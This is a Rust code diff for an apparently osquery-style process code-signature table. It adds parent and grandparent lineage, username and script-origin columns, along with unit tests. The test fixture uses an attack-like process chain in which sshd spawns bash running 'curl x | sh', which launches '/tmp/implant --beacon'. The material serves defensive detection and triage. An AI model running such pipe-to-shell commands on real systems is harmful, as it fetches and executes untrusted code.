@@ -42,6 +42,12 @@ pub static COLUMNS: &[Column] = &[
     text("subject_identity", "Stable baseline key: team:<TEAMID>:<id>, apple:<id>, package:<pkg>:<path>, sha256:<hex>, inline:<interpreter>:<sha256>"),
     text("cwd", "Current working directory"),
     bigint("start_time", "Process start time, Unix seconds"),
+    text("username", "Name of the real uid"),
+    text("parent_cmdline", "Parent's argv joined by spaces"),
+    integer("grandparent", "Grandparent process id (0 when unknown)"),
+    text("grandparent_path", "Grandparent's executable path"),
+    text("grandparent_cmdline", "Grandparent's argv joined by spaces"),
+    text("script_origin", "Who downloaded the script: the com.apple.quarantine agent (macOS; empty on Linux)"),
     text("error", "Why a field could not be filled (permission, vanished, too large…)"),
 ];
 
@@ -78,8 +84,18 @@ pub fn read_processes(
     Ok(processes)
 }
 
+/// Who started the process: parent and grandparent, for triage from one row.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct Lineage {
+    pub parent_path: String,
+    pub parent_cmdline: String,
+    pub grandparent: Pid,
+    pub grandparent_path: String,
+    pub grandparent_cmdline: String,
+}
+
 /// Builds one row from a verdict (no I/O).
-pub fn build_row(v: &ProcessVerdict, parent_path: &str) -> Row {
+pub fn build_row(v: &ProcessVerdict, lineage: &Lineage, username: &str) -> Row {
     let p = &v.process;
     let id = &v.identity;
     let (interpreter, kind, script_path, script_sha, script_trust, quarantined) = match &v.script {
@@ -128,7 +144,7 @@ pub fn build_row(v: &ProcessVerdict, parent_path: &str) -> Row {
         p.path.as_str().into(),
         p.argv.join(" ").into(),
         p.uid.into(),
-        parent_path.into(),
+        lineage.parent_path.as_str().into(),
         id.signed.into(),
         id.trust.as_str().into(),
         id.trust.is_trusted().into(),
@@ -152,6 +168,16 @@ pub fn build_row(v: &ProcessVerdict, parent_path: &str) -> Row {
         v.subject.identity.as_str().into(),
         p.cwd.as_str().into(),
         p.start_time.into(),
+        username.into(),
+        lineage.parent_cmdline.as_str().into(),
+        lineage.grandparent.into(),
+        lineage.grandparent_path.as_str().into(),
+        lineage.grandparent_cmdline.as_str().into(),
+        v.script_identity
+            .as_ref()
+            .map(|s| s.quarantine_agent.as_str())
+            .unwrap_or_default()
+            .into(),
         Value::Text(errors.join("; ")),
     ]
 }
@@ -172,25 +198,125 @@ impl TableDef for ProcessCodeSignature {
     fn generate(&self, ctx: &QueryContext) -> Result<Vec<Row>, TableError> {
         let pids = ctx.equal_integers("pid");
         let processes = read_processes(self.host.as_ref(), pids.as_deref())?;
-        // Full scans know every parent already; point lookups ask for the one parent.
-        let known: HashMap<Pid, String> = if pids.is_none() {
-            processes.iter().map(|p| (p.pid, p.path.clone())).collect()
+        // Full scans know every ancestor already; point lookups read the two they need.
+        let mut known: HashMap<Pid, (Pid, String, String)> = if pids.is_none() {
+            processes
+                .iter()
+                .map(|p| (p.pid, (p.parent, p.path.clone(), p.argv.join(" "))))
+                .collect()
         } else {
             HashMap::new()
         };
+        let mut ancestor = |pid: Pid| -> (Pid, String, String) {
+            if pid <= 0 {
+                return (0, String::new(), String::new());
+            }
+            known
+                .entry(pid)
+                .or_insert_with(|| match self.host.process(pid) {
+                    Ok(p) => (p.parent, p.path, p.argv.join(" ")),
+                    Err(_) => (0, String::new(), String::new()),
+                })
+                .clone()
+        };
+        let mut users: HashMap<i64, String> = HashMap::new();
         let mut rows = Vec::with_capacity(processes.len());
         for process in processes {
-            let parent_path = match known.get(&process.parent) {
-                Some(path) => path.clone(),
-                None if process.parent > 0 => self
-                    .host
-                    .executable_path(process.parent)
-                    .unwrap_or_default(),
-                None => String::new(),
+            let (grandparent, parent_path, parent_cmdline) = ancestor(process.parent);
+            let (_, grandparent_path, grandparent_cmdline) = ancestor(grandparent);
+            let lineage = Lineage {
+                parent_path,
+                parent_cmdline,
+                grandparent,
+                grandparent_path,
+                grandparent_cmdline,
             };
+            let username = users
+                .entry(process.uid)
+                .or_insert_with(|| self.host.user_name(process.uid).unwrap_or_default())
+                .clone();
             let verdict = subject::evaluate(self.host.as_ref(), process);
-            rows.push(build_row(&verdict, &parent_path));
+            rows.push(build_row(&verdict, &lineage, &username));
         }
         Ok(rows)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::platform::FakeHost;
+    use crate::tables::column_index;
+
+    fn process(pid: Pid, parent: Pid, argv: &[&str]) -> ProcessInfo {
+        ProcessInfo {
+            pid,
+            parent,
+            path: argv[0].into(),
+            argv: argv.iter().map(|a| a.to_string()).collect(),
+            uid: 0,
+            ..Default::default()
+        }
+    }
+
+    fn cell(row: &Row, name: &str) -> Value {
+        row[column_index(COLUMNS, name).unwrap()].clone()
+    }
+
+    #[test]
+    fn rows_carry_parent_and_grandparent_context_for_lookups_and_scans() {
+        let host = Arc::new(FakeHost {
+            processes: vec![
+                process(1, 0, &["/sbin/init"]),
+                process(10, 1, &["/usr/bin/sshd", "-D"]),
+                process(20, 10, &["/bin/bash", "-c", "curl x | sh"]),
+                process(30, 20, &["/tmp/implant", "--beacon"]),
+            ],
+            ..Default::default()
+        });
+        let table = ProcessCodeSignature::new(host.clone());
+        let by_pid = table
+            .generate(&QueryContext::new().with_equals("pid", "30"))
+            .unwrap();
+        let full = table.generate(&QueryContext::new()).unwrap();
+        let from_scan = full
+            .iter()
+            .find(|r| cell(r, "pid") == Value::Int(30))
+            .unwrap();
+        for row in [&by_pid[0], from_scan] {
+            assert_eq!(cell(row, "parent_path"), Value::from("/bin/bash"));
+            assert_eq!(
+                cell(row, "parent_cmdline"),
+                Value::from("/bin/bash -c curl x | sh")
+            );
+            assert_eq!(cell(row, "grandparent"), Value::Int(10));
+            assert_eq!(cell(row, "grandparent_path"), Value::from("/usr/bin/sshd"));
+            assert_eq!(
+                cell(row, "grandparent_cmdline"),
+                Value::from("/usr/bin/sshd -D")
+            );
+            assert_eq!(cell(row, "cmdline"), Value::from("/tmp/implant --beacon"));
+            assert_eq!(cell(row, "trust"), Value::from("unsigned"));
+            assert_eq!(cell(row, "subject_kind"), Value::from("binary"));
+        }
+        // uid 0 is root in every passwd file.
+        assert_eq!(cell(&by_pid[0], "username"), Value::from("root"));
+        assert_eq!(full.len(), 4);
+        // init has no parent: empty lineage, no lookup of pid 0.
+        let init = full
+            .iter()
+            .find(|r| cell(r, "pid") == Value::Int(1))
+            .unwrap();
+        assert_eq!(cell(init, "parent_path"), Value::from(""));
+        assert!(!host.process_calls.lock().unwrap().contains(&0));
+    }
+
+    #[test]
+    fn vanished_pids_are_skipped_not_errors() {
+        let table = ProcessCodeSignature::new(Arc::new(FakeHost::default()));
+        let rows = table
+            .generate(&QueryContext::new().with_equals("pid", "4242"))
+            .unwrap();
+        assert!(rows.is_empty());
     }
 }
